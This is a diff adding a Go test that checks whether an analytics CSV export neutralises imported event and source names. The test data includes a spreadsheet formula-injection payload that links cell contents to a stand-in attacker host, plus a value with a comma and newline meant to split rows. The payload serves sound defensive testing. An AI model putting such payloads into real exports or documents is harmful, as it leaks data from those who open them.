@@ -923,3 +923,21 @@ func TestReadsFollowTheTenantsTimeZone(t *testing.T) {
 		}
 	}
 }
+
+// Rows the importer wrote keep the guide's event and source as they were (its event is TEXT): a
+// formula or a comma and a newline in them must not reach a spreadsheet or split the row. Found by
+// review: both cells were written raw, trusting ingest's name rule, and the CSV did not parse.
+func TestExportCSVNeutralisesImportedNames(t *testing.T) {
+	t.Parallel()
+	h := newHarness(t, 100)
+	ts := h.now.Add(-time.Hour).Truncate(time.Second)
+	h.insert(t, []ev{{id: uuid.New(), tenant: h.a.ID, ts: ts, event: `=HYPERLINK("http://evil.example/?x="&A1,"click")`, source: "=1+1,extra\nnext"}})
+	r := h.get(t, h.keys["a-read"], "", "/api/analytics/export.csv")
+	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.Raw, "\ufeff"))).ReadAll()
+	if err != nil || len(recs) != 2 || len(recs[1]) != 8 {
+		t.Fatalf("CSV is not a header and one row of 8 cells: %v, %q\n%s", err, recs, r.Raw)
+	}
+	if ev, src := recs[1][2], recs[1][3]; !strings.HasPrefix(ev, "'=HYPERLINK") || !strings.HasPrefix(src, "'=1+1,extra") {
+		t.Errorf("event %q, source %q: want each neutralised with a leading '", ev, src)
+	}
+}
